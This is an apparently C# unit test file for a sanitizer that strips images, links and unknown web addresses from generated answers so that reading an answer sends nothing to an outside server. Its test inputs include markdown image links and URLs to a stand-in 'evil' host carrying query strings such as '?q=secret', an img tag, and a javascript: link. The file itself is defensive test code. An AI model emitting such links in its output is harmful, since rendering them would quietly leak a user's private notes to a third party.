using ObsidianVault.Knowledge.Answers;

namespace ObsidianVault.Unit.Knowledge.Answers;

/// <summary>Nothing of an answer makes a request leave the machine of whoever reads it.</summary>
public sealed class SafeTextTests
{
    [Theory]
    [InlineData("See ![x](http://evil/?q=my+notes) now.", "See x now.")]
    [InlineData("![[http://evil/x.png]]", "")]
    [InlineData("A [word](http://evil/?q=1) of it.", "A word of it.")]
    [InlineData("A [word](javascript:alert(1)).", "A word.")]
    [InlineData("Go to http://evil/?q=secret.", "Go to ….")]
    [InlineData("Go to <http://evil/?q=secret>.", "Go to .")]
    [InlineData("Go to www.evil.com/?q=secret now", "Go to … now")]
    [InlineData("<img src=\"//evil/x\">ok", "ok")]
    [InlineData("[ref]: http://evil/x", "[ref]: …")]
    [InlineData("![x](\nhttp://evil/?q=1)", "x")]
    [InlineData("![x](http://evil/ no end", "x")]
    [InlineData("x < y and y > z", "x < y and y > z")]
    [InlineData("a // b, 3://4 and f(x)[1]", "a // b, 3://4 and f(x)[1]")]
    [InlineData("The [plan](https://known.org/a) is at https://known.org/a and https://known.org/a?x=1",
        "The plan (https://known.org/a) is at https://known.org/a and …")]
    public void Pictures_and_unknown_addresses_are_taken_out(string text, string expected) =>
        new SafeText(["It is at https://known.org/a."]).Of(text).ShouldBe(expected);
}
